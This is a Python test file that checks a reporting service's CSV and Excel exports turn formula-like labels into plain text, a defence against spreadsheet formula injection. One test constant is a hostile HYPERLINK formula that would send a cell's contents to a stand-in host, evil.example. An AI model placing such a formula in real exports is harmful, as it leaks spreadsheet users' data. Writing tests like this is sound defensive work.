"""CSV and Excel exports write labels as text that no spreadsheet runs as a formula (issue 11, item 11)."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from services.reporting.domain.open_data import open_data_csv
from services.reporting.domain.tables import Header, Table
from services.reporting.web import exports
from services.reporting.web.labels import Labeller

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Avaa")'
NAMES = {"e1": HOSTILE, "e2": "-Kahvila", "e3": "@SUM(A1:A9)", "e4": "+358 40 123", "e5": "\tSarkain",
         "e6": "\rRivinvaihto", "e7": "Kyläkauppa"}


def table() -> Table:
    rows = [Header(key, "environment") for key in NAMES]
    columns = [Header("participants"), Header("mean_change")]
    values = {(key, "participants"): 6 for key in NAMES} | {(key, "mean_change"): 0.5 for key in NAMES}
    values[("e7", "participants")] = -3  # a negative count stays a number
    values[("e7", "mean_change")] = -1.5
    return Table("environments", "Environments", rows, columns, values, kinds={"mean_change": "mean"},
                 row_dimension="environment")


def labeller() -> Labeller:
    return Labeller("en", environment_names=NAMES)


def test_csv_neutralises_every_label_a_spreadsheet_would_read_as_a_formula():
    first_cells = [row[0] for row in csv.reader(io.StringIO(exports.csv_of(table(), labeller()).lstrip("\ufeff"),
                                                             newline=""))]
    assert "'" + HOSTILE in first_cells
    assert {"'-Kahvila", "'@SUM(A1:A9)", "'+358 40 123", "'\tSarkain", "'\rRivinvaihto"} <= set(first_cells)
    assert HOSTILE not in first_cells
    assert "Kyläkauppa" in first_cells  # ordinary names are written as they are


def test_csv_keeps_negative_numbers_numbers():
    rows = list(csv.reader(io.StringIO(exports.csv_of(table(), labeller()).lstrip("\ufeff"), newline="")))
    kylakauppa = next(row for row in rows if row[0] == "Kyläkauppa")
    assert kylakauppa[1:] == ["-3", "-1.5"]


def test_excel_cells_are_text_not_formulas_and_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(exports.workbook_of([table()], labeller(), "2025")))
    sheet = book.active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert cells["'" + HOSTILE].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells.values())
    row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == "Kyläkauppa")
    assert row[1] == -3 and isinstance(row[1], int)


def test_open_data_csv_neutralises_keys_too():
    hostile = Table("t", "T", [Header("=1+1", "organisation")], [Header("participants")],
                    {("=1+1", "participants"): -7}, row_dimension="organisation")
    lines = list(csv.reader(io.StringIO(open_data_csv([hostile.to_dict()]), newline="")))
    assert lines[1] == ["t", "organisation", "'=1+1", "participants", "-7"]
